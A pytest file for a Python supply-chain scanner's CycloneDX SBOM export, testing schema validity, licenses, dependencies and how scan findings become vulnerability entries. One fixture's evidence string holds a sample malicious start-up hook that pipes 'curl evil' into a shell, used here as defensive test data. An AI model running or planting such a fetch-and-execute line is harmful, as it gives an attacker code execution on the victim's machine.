"""CycloneDX output: every document schema-valid (1.5 and 1.6, JSON and XML), and
each component carrying what a consumer of the SBOM relies on."""

from __future__ import annotations

import json
import random
from typing import Any

import pytest
from sbom_factories import SITE, advisory, demo_components, demo_inventory, dist

from wellcheck.errors import OutputError
from wellcheck.models import (
    ArtifactInfo,
    Component,
    ComponentKind,
    Finding,
    Person,
    Severity,
    Suppression,
)
from wellcheck.pipeline import Inventory
from wellcheck.sbom import build_cyclonedx, render_cyclonedx, render_sbom
from wellcheck.sbom.cyclonedx import validate_cyclonedx


def single(*components: Component) -> list[Inventory]:
    return [Inventory(ArtifactInfo("fn.zip", "lambda-zip"), components, ())]


def cdx(inventories: list[Inventory], spec: str = "1.6", **kw: Any) -> dict[str, Any]:
    text = render_cyclonedx(build_cyclonedx(inventories, spec=spec, **kw), "json", spec)
    assert validate_cyclonedx(text, "json", spec) is None
    return json.loads(text)  # type: ignore[no-any-return]


def component(doc: dict[str, Any], name: str) -> dict[str, Any]:
    return next(c for c in doc["components"] if c["name"] == name)


def props(item: dict[str, Any]) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for p in item.get("properties", []):
        out.setdefault(p["name"], []).append(p["value"])
    return out


@pytest.mark.parametrize("spec", ["1.5", "1.6"])
@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_every_flavour_validates_against_the_schema(spec: str, fmt: str) -> None:
    inventories = [demo_inventory(), demo_inventory(path="img.tar", kind="docker-archive")]
    for selected in ([inventories[0]], inventories):
        bom = build_cyclonedx(selected, spec=spec, findings=[[advisory()]])
        text = render_cyclonedx(bom, fmt, spec)
        assert validate_cyclonedx(text, fmt, spec) is None, text[:2000]
        assert f"1.{spec[-1]}" in text


def test_validator_reports_a_broken_document() -> None:
    assert validate_cyclonedx('{"bomFormat": "CycloneDX", "specVersion": "1.6", "x": 1}')


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("docker-archive", "container"),
        ("oci-layout", "container"),
        ("lambda-zip", "application"),
        ("directory", "application"),
        ("lambda-layer", "file"),
        ("wheel", "file"),
    ],
)
def test_artifact_is_the_metadata_component_with_its_sha256(kind: str, expected: str) -> None:
    doc = cdx([demo_inventory(kind=kind)])
    meta = doc["metadata"]["component"]
    assert meta["type"] == expected
    assert meta["name"] == "demo-layer.zip"
    assert meta["hashes"] == [{"alg": "SHA-256", "content": "cd" * 32}]
    assert props(meta)["wellcheck:artifact-kind"] == [kind]


def test_several_artifacts_nest_under_one_parent() -> None:
    doc = cdx([demo_inventory(), demo_inventory(path="build/fn.zip", kind="lambda-zip")])
    parent = doc["metadata"]["component"]
    assert sorted(c["name"] for c in parent["components"]) == ["demo-layer.zip", "fn.zip"]
    assert len(doc["components"]) == 2 * len(demo_components())
    root_dep = next(d for d in doc["dependencies"] if d["ref"] == parent["bom-ref"])
    assert sorted(root_dep["dependsOn"]) == sorted(c["bom-ref"] for c in parent["components"])


def test_every_component_is_in_the_dependency_graph() -> None:
    doc = cdx([demo_inventory()])
    refs = {d["ref"] for d in doc["dependencies"]}
    assert {c["bom-ref"] for c in doc["components"]} <= refs
    assert doc["metadata"]["component"]["bom-ref"] in refs
    requests = component(doc, "requests")["bom-ref"]
    deps = next(d for d in doc["dependencies"] if d["ref"] == requests)["dependsOn"]
    assert sorted(d.split("|")[0] for d in deps) == [
        "pkg:pypi/certifi@2023.7.22",
        "pkg:pypi/charset-normalizer@3.3.2",
        "pkg:pypi/idna@3.6",
        "pkg:pypi/urllib3@2.0.7",
    ]


def test_components_carry_purl_location_and_kind() -> None:
    doc = cdx([demo_inventory()])
    requests = component(doc, "requests")
    assert requests["type"] == "library"
    assert requests["purl"] == "pkg:pypi/requests@2.31.0"
    assert requests["version"] == "2.31.0"
    assert requests["description"] == "Python HTTP for Humans."
    p = props(requests)
    assert p["wellcheck:location"] == [f"{SITE}/requests-2.31.0.dist-info"]
    assert p["wellcheck:kind"] == ["dist-info"]
    assert p["wellcheck:site_root"] == [SITE]
    assert {r["type"]: r["url"] for r in requests["externalReferences"]} == {
        "documentation": "https://requests.readthedocs.io",
        "vcs": "https://github.com/psf/requests",
    }
    vendored = component(doc, "packaging")
    assert props(vendored)["wellcheck:vendored_by"] == ["pip"]


def test_unclaimed_code_is_a_file_without_purl() -> None:
    doc = cdx([demo_inventory()])
    hidden = component(doc, "sitecustomize")
    assert hidden["type"] == "file"
    assert "purl" not in hidden
    assert props(hidden)["wellcheck:kind"] == ["unclaimed"]


def test_layer_digest_is_a_property() -> None:
    six = dist("six", "1.16.0", layer="sha256:" + "ef" * 32)
    doc = cdx([Inventory(ArtifactInfo("img.tar", "docker-archive"), (six,), ())])
    assert props(component(doc, "six"))["wellcheck:layer"] == ["sha256:" + "ef" * 32]


def test_licenses_expression_ids_and_names() -> None:
    doc = cdx([demo_inventory()])
    assert component(doc, "idna")["licenses"] == [{"expression": "BSD-3-Clause"}]
    assert component(doc, "urllib3")["licenses"] == [{"license": {"id": "MIT"}}]
    assert component(doc, "certifi")["licenses"] == [{"license": {"id": "MPL-2.0"}}]
    assert component(doc, "typing_extensions")["licenses"] == [{"license": {"id": "PSF-2.0"}}]
    # "Apache Software License" names no version: kept as a name, not guessed
    assert component(doc, "requests")["licenses"] == [
        {"license": {"id": "Apache-2.0"}},
        {"license": {"name": "Apache Software License"}},
    ]


def test_a_long_license_text_becomes_a_short_name_with_the_text_attached() -> None:
    text = "Copyright (c) 2020 Someone\n\nPermission is hereby granted, free of charge..."
    doc = cdx(
        [Inventory(ArtifactInfo("fn.zip", "lambda-zip"), (dist("x", "1", licenses=(text,)),), ())]
    )
    (lic,) = component(doc, "x")["licenses"]
    assert lic["license"]["name"] == "Copyright (c) 2020 Someone"
    assert lic["license"]["text"]["content"] == text


def test_unknown_license_values_are_left_out() -> None:
    doc = cdx(
        [
            Inventory(
                ArtifactInfo("fn.zip", "lambda-zip"), (dist("x", "1", licenses=("UNKNOWN",)),), ()
            )
        ]
    )
    assert "licenses" not in component(doc, "x")


def test_authors_and_maintainers_by_spec_version() -> None:
    inv = [demo_inventory()]
    assert component(cdx(inv, "1.6"), "requests")["authors"] == [
        {"name": "Kenneth Reitz", "email": "me@kennethreitz.org"}
    ]
    assert component(cdx(inv, "1.5"), "requests")["author"] == "Kenneth Reitz <me@kennethreitz.org>"
    # maintainers supply the package; an obfuscated address is not an email
    supplier = component(cdx(inv), "urllib3")["supplier"]
    assert supplier == {"contact": [{"name": "Seth Michael Larson"}]}
    assert component(cdx(inv), "idna")["supplier"]["contact"][0]["email"] == "kim+pypi@gumleaf.org"


def test_hashes_only_when_well_formed() -> None:
    good = dist("a", "1", hashes=(("sha256", "ab" * 32),))
    bad = dist("b", "1", hashes=(("sha256", "xyz"), ("crc32", "1234abcd")))
    doc = cdx([Inventory(ArtifactInfo("fn.zip", "lambda-zip"), (good, bad), ())])
    assert component(doc, "a")["hashes"] == [{"alg": "SHA-256", "content": "ab" * 32}]
    assert "hashes" not in component(doc, "b")


def test_odd_metadata_still_validates() -> None:
    odd = Component(
        name="weird",
        version="1.0-custom+build.7 (local)",
        kind=ComponentKind.EGG_INFO,
        location="weird.egg-info",
        version_is_pep440=False,
        authors=(Person(None, "not an email"), Person("Ünïcode Ñame", None)),
        project_urls=(
            ("Funding", "https://example.org/fund"),
            ("Bad", "not a url"),
            ("", "ftp://x/y"),
        ),
        licenses=("GPL v2 or later", "License :: OSI Approved :: BSD License"),
        warnings=("METADATA: bad header",),
    )
    for spec in ("1.5", "1.6"):
        doc = cdx([Inventory(ArtifactInfo("fn.zip", "lambda-zip"), (odd,), ())], spec)
        weird = component(doc, "weird")
        assert props(weird)["wellcheck:pep440"] == ["false"]
        assert [r["type"] for r in weird["externalReferences"]] == ["other", "other"]


def test_findings_become_vdr_vulnerabilities() -> None:
    findings = [
        advisory(),
        advisory(
            kind="malicious",
            rule="MAL-2024-1",
            id="MAL-2024-1",
            package="sitecustomize",
            version="",
            severity=Severity.CRITICAL,
            location="",
            aliases=(),
            fixed=None,
            score=None,
        ),
    ]
    doc = cdx([demo_inventory()], findings=[findings])
    vulns = {v["id"]: v for v in doc["vulnerabilities"]}
    assert set(vulns) == {"GHSA-9wx4-h78v-vm56", "MAL-2024-1"}
    ghsa = vulns["GHSA-9wx4-h78v-vm56"]
    assert ghsa["affects"][0]["ref"] == component(doc, "requests")["bom-ref"]
    assert ghsa["affects"][0]["versions"] == [{"version": "2.31.0", "status": "affected"}]
    assert ghsa["ratings"][0]["severity"] == "medium"
    assert ghsa["ratings"][0]["score"] == 5.6
    assert ghsa["recommendation"] == "Upgrade requests to 2.32.0 or later"
    assert ghsa["source"]["url"] == "https://osv.dev/vulnerability/GHSA-9wx4-h78v-vm56"
    assert [r["id"] for r in ghsa["references"]] == ["CVE-2024-35195"]
    assert "analysis" not in ghsa  # reported, not ignored: a VDR entry
    assert vulns["MAL-2024-1"]["ratings"][0]["severity"] == "critical"


def signal(**kw: object) -> Finding:
    fields: dict[str, object] = {
        "kind": "startup",
        "rule": "WC-STARTUP-PTH",
        "package": "",
        "version": "",
        "severity": Severity.HIGH,
        "title": "a .pth file runs code at every interpreter start-up",
        "path": f"{SITE}/zz-hook.pth",
        "line": 2,
        "confidence": "high",
        "evidence": "import os; os.system('curl evil | sh')",
        "remediation": "remove the .pth file",
    }
    fields.update(kw)
    return Finding(**fields)  # type: ignore[arg-type]


@pytest.mark.parametrize("spec", ["1.5", "1.6"])
def test_signals_are_vulnerabilities_from_wellcheck(spec: str) -> None:
    """Start-up hooks, typosquats, tampering: what made the scan fail is in the document."""
    typo = signal(
        kind="typosquat",
        rule="WC-TYPO-001",
        package="idna",
        version="3.6",
        location=f"{SITE}/idna-3.6.dist-info",
        path="",
        line=None,
        severity=Severity.MEDIUM,
        title="idna imitates idna2",
        confidence="medium",
    )
    tampered = signal(
        kind="integrity",
        rule="WC-INTEGRITY-CHANGED",
        package="urllib3",
        version="2.0.7",
        location=f"{SITE}/urllib3-2.0.7.dist-info",
        path=f"{SITE}/urllib3/connection.py",
        line=None,
        title="a file differs from RECORD",
    )
    hook = signal()
    doc = cdx([demo_inventory()], spec, findings=[[hook, typo, tampered]])
    vulns = {v["id"]: v for v in doc["vulnerabilities"]}
    assert set(vulns) == {"WC-STARTUP-PTH", "WC-TYPO-001", "WC-INTEGRITY-CHANGED"}
    pth = vulns["WC-STARTUP-PTH"]
    assert pth["source"] == {"name": "wellcheck"}
    assert pth["ratings"] == [{"source": {"name": "wellcheck"}, "severity": "high"}]
    assert pth["description"] == hook.title
    assert pth["detail"] == hook.evidence
    assert pth["recommendation"] == "remove the .pth file"
    assert pth["affects"] == [{"ref": doc["metadata"]["component"]["bom-ref"]}]  # no owner
    assert props(pth) == {
        "wellcheck:kind": ["startup"],
        "wellcheck:confidence": ["high"],
        "wellcheck:path": [f"{SITE}/zz-hook.pth"],
        "wellcheck:line": ["2"],
    }
    assert vulns["WC-TYPO-001"]["affects"][0]["ref"] == component(doc, "idna")["bom-ref"]
    changed = vulns["WC-INTEGRITY-CHANGED"]
    assert changed["affects"][0]["ref"] == component(doc, "urllib3")["bom-ref"]
    assert props(changed)["wellcheck:path"] == [f"{SITE}/urllib3/connection.py"]


@pytest.mark.parametrize("spec", ["1.5", "1.6"])
@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_ignored_findings_are_written_with_a_vex_analysis(spec: str, fmt: str) -> None:
    waived = Suppression(
        "the Session is never reused",
        "ignore.toml, entry 1",
        state="not_affected",
        justification="code_not_reachable",
    )
    accepted = Suppression("owner reviewed the hook", "ignore.toml, entry 2")
    inventories = [demo_inventory(), demo_inventory(path="other.zip")]
    findings = [
        [advisory(suppression=waived), signal(suppression=accepted)],
        [advisory()],  # the same advisory, not ignored, in the other artifact
    ]
    bom = build_cyclonedx(inventories, spec=spec, findings=findings)
    text = render_cyclonedx(bom, fmt, spec)
    assert validate_cyclonedx(text, fmt, spec) is None
    if fmt == "xml":
        return
    vulns = {v["bom-ref"]: v for v in json.loads(text)["vulnerabilities"]}
    assert set(vulns) == {
        "vulnerability:GHSA-9wx4-h78v-vm56",
        "vulnerability:GHSA-9wx4-h78v-vm56|ignored",
        "finding:WC-STARTUP-PTH|1",
    }
    reported = vulns["vulnerability:GHSA-9wx4-h78v-vm56"]
    assert "analysis" not in reported
    assert [a["ref"] for a in reported["affects"]] == [
        "pkg:pypi/requests@2.31.0|other.zip!python/lib/python3.12/site-packages/requests-2.31.0.dist-info"
    ]
    ignored = vulns["vulnerability:GHSA-9wx4-h78v-vm56|ignored"]
    assert ignored["analysis"] == {
        "state": "not_affected",
        "justification": "code_not_reachable",
        "detail": "the Session is never reused",
    }
    assert props(ignored)["wellcheck:suppressed-by"] == ["ignore.toml, entry 1"]
    assert [a["ref"] for a in ignored["affects"]] == [
        "pkg:pypi/requests@2.31.0|demo-layer.zip!python/lib/python3.12/site-packages/requests-2.31.0.dist-info"
    ]
    hook = vulns["finding:WC-STARTUP-PTH|1"]
    assert hook["analysis"] == {"detail": "owner reviewed the hook"}  # no state was given
    assert hook["affects"] == [{"ref": "artifact:demo-layer.zip"}]


def test_one_vulnerability_affects_every_matching_component_across_artifacts() -> None:
    doc = cdx(
        [demo_inventory(), demo_inventory(path="other.zip")],
        findings=[[advisory()], [advisory()]],
    )
    (vuln,) = doc["vulnerabilities"]
    assert len(vuln["affects"]) == 2


def test_no_findings_no_vulnerabilities_key() -> None:
    assert "vulnerabilities" not in cdx([demo_inventory()])


def test_reproducible_output_is_byte_identical_and_order_independent() -> None:
    inv = demo_inventory()
    shuffled = list(inv.components)
    random.Random(7).shuffle(shuffled)
    other = Inventory(inv.artifact, tuple(shuffled), ())
    for fmt in ("json", "xml"):
        first = render_cyclonedx(build_cyclonedx([inv], reproducible=True), fmt)
        second = render_cyclonedx(build_cyclonedx([other], reproducible=True), fmt)
        assert first == second
        assert "serialNumber" not in first
        assert "timestamp" not in first


def test_default_output_has_serial_number_and_timestamp() -> None:
    doc = cdx([demo_inventory()])
    assert doc["serialNumber"].startswith("urn:uuid:")
    assert "timestamp" in doc["metadata"]
    assert doc["metadata"]["tools"]["components"][0]["name"] == "wellcheck"


def test_bad_version_or_format_is_an_output_error() -> None:
    with pytest.raises(OutputError, match=r"1\.4"):
        build_cyclonedx([demo_inventory()], spec="1.4")
    with pytest.raises(OutputError, match="yaml"):
        render_sbom([demo_inventory()], "yaml")
    with pytest.raises(OutputError):
        build_cyclonedx([])


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/100%free",
        "https://example.org/a#b#c",
        "https://example.org/{x}|y^z`w\\v",
        "https://example.org/a b",
        "https://例え.jp/パス",
    ],
)
def test_awkward_urls_are_escaped_not_fatal(url: str) -> None:
    doc_json = render_cyclonedx(
        build_cyclonedx(single(dist("x", "1", project_urls=(("Home", url),))))
    )
    assert validate_cyclonedx(doc_json) is None
    assert len(component(json.loads(doc_json), "x")["externalReferences"]) == 1
    bom = build_cyclonedx(single(dist("x", "1", project_urls=(("Home", url),))))
    assert validate_cyclonedx(render_cyclonedx(bom, "xml"), "xml") is None


def test_control_characters_from_old_metadata_do_not_break_xml() -> None:
    odd = dist(
        "x",
        "1.0",
        summary="form\x0cfeed",
        licenses=("Line one\n\x0c\nmore text",),
        authors=(Person("Esc\x1bape", None),),
        project_urls=(("Home", "https://example.org/a\x7fb"),),
    )
    for fmt in ("json", "xml"):
        for spec in ("1.5", "1.6"):
            text = render_cyclonedx(build_cyclonedx(single(odd), spec=spec), fmt, spec)
            assert validate_cyclonedx(text, fmt, spec) is None
            assert "\x0c" not in text
